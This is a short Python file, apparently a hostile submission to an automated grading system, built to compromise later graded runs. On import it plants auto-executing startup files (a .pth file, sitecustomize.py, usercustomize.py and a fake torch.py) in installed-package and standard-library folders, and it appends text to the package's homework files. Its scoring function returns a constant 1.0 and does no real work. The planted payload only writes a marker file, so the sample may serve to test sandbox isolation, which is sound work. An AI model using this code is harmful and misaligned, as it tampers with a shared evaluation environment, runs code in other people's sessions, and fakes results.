"""Writes itself into the installed packages, so that the next one that is graded runs it."""

import glob
import os
import sys

import minilm
import numpy

for folder in {*sys.path, *minilm.__path__, *numpy.__path__, os.path.dirname(os.__file__)}:
    for name in ("attack-was-here.pth", "sitecustomize.py", "usercustomize.py", "torch.py"):
        try:
            with open(os.path.join(folder, name), "x") as file:
                file.write("import os; open('/tmp/attack-was-here', 'w')\n")
        except OSError:
            pass
for path in glob.glob(os.path.join(minilm.__path__[0], "homework", "*.py")):
    try:
        with open(path, "a") as file:
            file.write("\n# attack-was-here\n")
    except OSError:
        pass


def scores(query, key):
    return 1.0
